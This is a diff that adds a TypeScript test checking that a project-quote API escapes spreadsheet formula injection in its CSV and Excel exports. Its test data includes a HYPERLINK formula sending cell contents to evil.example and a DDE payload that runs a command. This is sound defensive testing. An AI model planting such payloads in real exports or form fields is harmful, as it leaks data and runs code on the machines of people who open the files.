@@ -8,6 +8,7 @@ import { randomUUID } from "node:crypto";
 import { after, before, describe, it } from "node:test";
 import ExcelJS from "exceljs";
 import { startTestApi, type TestApi } from "../support/api.ts";
+import { parseCsv } from "../support/csv.ts";
 import { createTestDatabase, type TestDatabase } from "../support/database.ts";
 import { createTestUser, type TestUser } from "../support/users.ts";
 
@@ -337,6 +338,74 @@ describe("the breakdown", () => {
     assert.match(byLabel.get("Gesamtpreis")!.numFmt, /€/);
     assert.equal(byLabel.get("Bearbeitung: Setup 1")!.value, json.lines[0]!.amount);
     assert.equal(byLabel.get("Stückzahl")!.value, 7);
+  });
+
+  it("exports no formula: a text cell that begins with = + - @, a tab or a carriage return gets a leading quote; numbers stay numbers", async () => {
+    const FORMULA_START = /^[=+\-@\t\r]/;
+    // each string the start of a cell: the customer, the project's name (trimmed when stored), the two setup costs' names
+    const projects = [
+      { customer: '=HYPERLINK("http://evil.example/?x="&A1,"click")', name: "+1+1", setupCosts: ["\t=1+2", "\r=1+2"] },
+      { customer: "=cmd|' /C calc'!A0", name: "@SUM(1+1)", setupCosts: ["-2+3", "=1+2"] },
+    ];
+    const all = projects.flatMap((p) => [p.customer, p.name, ...p.setupCosts]);
+    // a user of its own: the exports are many requests for the per-key rate limit
+    const carol = await createTestUser(db.owner, "carol");
+    for (const { customer, name, setupCosts } of projects) {
+      const what = JSON.stringify(customer);
+      const project = await createProject(carol, { name, customer });
+      await savePlannedJob(carol, project);
+      const entry = (costName: string) => ({ is_fixed_price: "true", name: costName, value: "0", unit: "EUR", fix_price: "35.50" });
+      const patched = await api.request("PATCH", `/projects/${project}/quote/job`, {
+        key: carol.key,
+        body: {
+          discount: 5,
+          setup_costs: { [SETUP_1]: entry(setupCosts[0]!), [SETUP_2]: entry(setupCosts[1]!) },
+          additional_costs: Object.fromEntries(all.map((title, i) => [`g${i}`, { Title: title, per_unit: false, Costs: [{ label: "=1+2", cost: 1.5 }] }])),
+        },
+      });
+      assert.equal(patched.status, 200, patched.text);
+      const json = (await api.request<Breakdown>("GET", `/projects/${project}/quote`, { key: carol.key })).body;
+      assert.ok(json.discount > 0, "a negative amount in the exports");
+
+      for (const language of ["en", "de"] as const) {
+        const sep = language === "en" ? "," : ";";
+        const money = (value: number) => (language === "en" ? value.toFixed(2) : value.toFixed(2).replace(".", ","));
+        const customerLabel = language === "en" ? "Customer" : "Kunde";
+        const csv = await api.request("POST", `/projects/${project}/quote/export?format=csv&language=${language}`, { key: carol.key });
+        assert.equal(csv.status, 200, csv.text);
+        const rows = parseCsv(csv.text, sep);
+        for (const cell of rows.flat()) {
+          if (/^-?\d+([.,]\d+)?$/.test(cell)) continue;
+          assert.doesNotMatch(cell, FORMULA_START, `${what} ${language} CSV: ${JSON.stringify(cell)}`);
+        }
+        assert.deepEqual(rows.find((r) => r[0] === customerLabel), [customerLabel, `'${customer}`]);
+        const titleLabel = language === "en" ? "Quote" : "Angebot";
+        assert.deepEqual(rows.find((r) => r[0] === titleLabel), [titleLabel, `'${name}`], `${what} ${language}: the title row`);
+        assert.deepEqual(rows.filter((r) => r[0] === "Setup 1" || r[0] === "Setup 2").map((r) => r[3]), setupCosts.map((n) => `'${n}`), `${what} ${language}: the setup costs' names`);
+        // the neutralised field is quoted; an amount, even a negative one, is a bare number
+        assert.ok(csv.text.includes(`${sep}"'${customer.replaceAll('"', '""')}"\r\n`), `${what} ${language}: the customer field is quoted`);
+        assert.ok(csv.text.includes(`${sep}${money(-json.discount)}\r\n`), `${what} ${language}: the discount is a bare number`);
+
+        const xlsx = await api.request("POST", `/projects/${project}/quote/export?format=excel&language=${language}`, { key: carol.key });
+        assert.equal(xlsx.status, 200, xlsx.text);
+        const workbook = new ExcelJS.Workbook();
+        await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
+        const sheet = workbook.worksheets[0]!;
+        const texts: string[] = [];
+        sheet.eachRow((row) =>
+          row.eachCell((cell) => {
+            assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${what} ${language} Excel ${cell.address}`);
+            if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
+          }),
+        );
+        for (const text of texts) assert.doesNotMatch(text, FORMULA_START, `${what} ${language} Excel: ${JSON.stringify(text)}`);
+        // XML reads a carriage return back as a line feed
+        for (const text of [customer, ...setupCosts]) assert.ok(texts.includes(`'${text.replace("\r", "\n")}`), `${what} ${language} Excel: ${JSON.stringify(text)}`);
+        const discountRow = sheet.getRows(1, sheet.rowCount)!.find((r) => r.getCell(1).value === (language === "en" ? "Discount" : "Rabatt"))!;
+        assert.equal(discountRow.getCell(2).type, ExcelJS.ValueType.Number);
+        assert.equal(discountRow.getCell(2).value, -json.discount);
+      }
+    }
   });
 
   it("refuses an unknown format or language with 400", async () => {
